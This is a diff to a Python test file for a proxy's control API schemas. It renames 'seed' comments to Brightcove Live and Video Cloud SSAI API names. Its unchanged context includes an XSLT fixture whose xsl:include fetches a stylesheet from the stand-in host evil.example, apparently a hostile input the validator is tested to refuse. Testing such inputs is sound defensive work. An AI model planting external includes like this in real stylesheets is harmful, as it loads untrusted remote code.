@@ -1,5 +1,5 @@
-"""Control API bodies (proxy/web/schemas/): every seed sample parses, defaults are applied, every constraint
-is refused with a sentence naming the field, the value and what was expected, and nothing but BadRequest ever
+"""Control API bodies (proxy/web/schemas/): every sample of the API documents parses, defaults are applied, every
+constraint is refused with a sentence naming the field, the value and what was expected, and nothing but BadRequest ever
 comes out of `parse`, whatever the bytes."""
 
 from __future__ import annotations
@@ -40,7 +40,7 @@ from proxy.web.schemas import (
     validate,
 )
 
-# The seeds' identity stylesheet (seed 002, every sample).
+# The API documents' identity stylesheet (Brightcove Live API, every sample).
 SEED_XSLT = (
     '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:Det="http://Det.com">'
     '<xsl:output omit-xml-declaration="yes"/><xsl:template match="node()|@*"><xsl:copy>'
@@ -49,7 +49,7 @@ SEED_XSLT = (
 INCLUDE_XSLT = SEED_XSLT.replace("<xsl:output", '<xsl:include href="http://evil.example/x.xsl"/><xsl:output')
 SEED_TAG = "https://ad-provider-host.com/path/to/ad-handler?ip={{client.ipaddress}}&num={{random.int32}}&ses={{session.session_id}}"
 SEED_HEADERS = {"X-Custom-Header-Rand": "{{random.int32}}", "X-VIDEOPLAZA-FORWARDED-FOR": "{{client.ipaddress}}"}
-# Seed 002 "Create an ad configuration", placeholders replaced by real values.
+# Brightcove Live API "Create an ad configuration", placeholders replaced by real values.
 SEED_002_CREATE: dict[str, Any] = {
     "application_ad_configuration": {
         "ad_configuration_description": "Human readable description of the configuration",
@@ -63,7 +63,7 @@ SEED_002_CREATE: dict[str, Any] = {
     "application_description": "Human readable description of the ad application",
     "account_id": "57838016001",
 }
-# Seed 002 "Update an ad configuration" (a whole body).
+# Brightcove Live API "Update an ad configuration" (a whole body).
 SEED_002_UPDATE: dict[str, Any] = {
     "application_ad_configuration": {
         "ad_configuration_description": "Some Updated Description Value",
@@ -77,7 +77,7 @@ SEED_002_UPDATE: dict[str, Any] = {
     "application_description": "Human readable description of the ad application",
     "account_id": "Account_ID",
 }
-# Seed 002 "Add slate asset".
+# Brightcove Live API "Add slate asset".
 SEED_002_SLATE = {
     "source_url": "https://somesourceasset.com/slate-to-ingest.mp4",
     "account_id": "Account_ID",
@@ -87,7 +87,7 @@ SEED_003_TAG = (
     "http://solutions.brightcove.com/bcls/ads/simple-ad-rules?ip={{ system.ip_address }}"
     "&vid={{ metadata.video_id }}&ppid={{ system.unique_user_id }}&p_vmap={{ url.p_vmap }}"
 )
-# Seed 003 "Create an ad configuration".
+# Video Cloud SSAI API "Create an ad configuration".
 SEED_003_CREATE: dict[str, Any] = {
     "name": "VMAP Ad Server",
     "vmap_response_namespace": "bc",
@@ -97,7 +97,7 @@ SEED_003_CREATE: dict[str, Any] = {
         "template_url": {"template": SEED_003_TAG},
     },
 }
-# Seed 003 "Get ad configuration details": a response, with the server's own fields.
+# Video Cloud SSAI API "Get ad configuration details": a response, with the server's own fields.
 SEED_003_RESPONSE: dict[str, Any] = {
     "name": "VMAP Ad Server",
     "vmap_response_namespace": "bc",
@@ -112,7 +112,7 @@ SEED_003_RESPONSE: dict[str, Any] = {
     },
 }
 SEED_003_UPDATE = {"name": "VMAP Ad Server - updated"}
-# Every field of seed 003's table.
+# Every field of the Video Cloud SSAI API's table.
 SEED_003_FULL: dict[str, Any] = {
     **SEED_003_CREATE,
     "vmap_response_namespace": "uo",
@@ -175,7 +175,7 @@ def refusal(model: type[BaseModel], body: Any) -> str:
 
 
 def with_ad(**fields: Any) -> dict[str, Any]:
-    """Seed 002's create sample with some `application_ad_configuration` fields replaced."""
+    """Brightcove Live API's create sample with some `application_ad_configuration` fields replaced."""
     body = copy.deepcopy(SEED_002_CREATE)
     body["application_ad_configuration"].update(fields)
     return body
@@ -189,7 +189,7 @@ def with_template(template: str) -> dict[str, Any]:
     return with_ssai(ad_config={"expected_ad_response": "vast_3_0", "template_url": {"template": template}})
 
 
-# --- seed samples and defaults ---
+# --- API document samples and defaults ---
 
 
 @pytest.mark.parametrize(
@@ -295,7 +295,7 @@ REFUSED: list[tuple[type[BaseModel], Any, str | tuple[str, str]]] = [
     ),
     (ApplicationBody, b"[1, 2]", "body = [1, 2]: expected a JSON object"),
     (CuePointBody, b"null", "body = None: expected a JSON object"),
-    # seed 002 applications
+    # Brightcove Live API applications
     (ApplicationBody, {}, "application_ad_configuration is missing: expected the ad configuration object"),
     (ApplicationBody, {"application_ad_configuration": []}, "application_ad_configuration = []: expected an object"),
     (
@@ -419,7 +419,7 @@ REFUSED: list[tuple[type[BaseModel], Any, str | tuple[str, str]]] = [
         {**SEED_002_CREATE, "application_description": TOO_LONG},
         f"application_description = '{'a' * 199}… (1001 characters): expected at most 1000 characters",
     ),
-    # seed 002 slates
+    # Brightcove Live API slates
     (SlateBody, {}, "source_url is missing: expected the http(s) URL of the slate video"),
     (
         SlateBody,
@@ -456,7 +456,7 @@ REFUSED: list[tuple[type[BaseModel], Any, str | tuple[str, str]]] = [
         {**SEED_002_SLATE, "media_source_asset_id": "x"},
         "media_source_asset_id = 'x': unknown field, expected one of source_url, account_id, source_description",
     ),
-    # seed 003 ssai_configs
+    # Video Cloud SSAI API ssai_configs
     (SsaiConfig, {"ad_config": SEED_003_CREATE["ad_config"]}, "name is missing: expected a human readable name"),
     (SsaiConfig, {"name": "n"}, "ad_config is missing: expected the ad configuration object"),
     (SsaiConfig, with_ssai(name=""), "name = '': expected at least 1 character"),
@@ -753,7 +753,7 @@ def test_channel_patch_refused(patch: dict[str, Any], expected: str) -> None:
 def test_ad_response_of_maps_both_seeds_to_settings(expected: str, setting: str) -> None:
     assert ad_response_of(expected) == setting
     assert setting in AD_RESPONSE_TYPES
-    assert response_format(setting) == response_format(expected)  # parsed the same way as the seed's name
+    assert response_format(setting) == response_format(expected)  # parsed the same way as the API's name
 
 
 def test_ad_response_of_refuses_unknown_names() -> None:
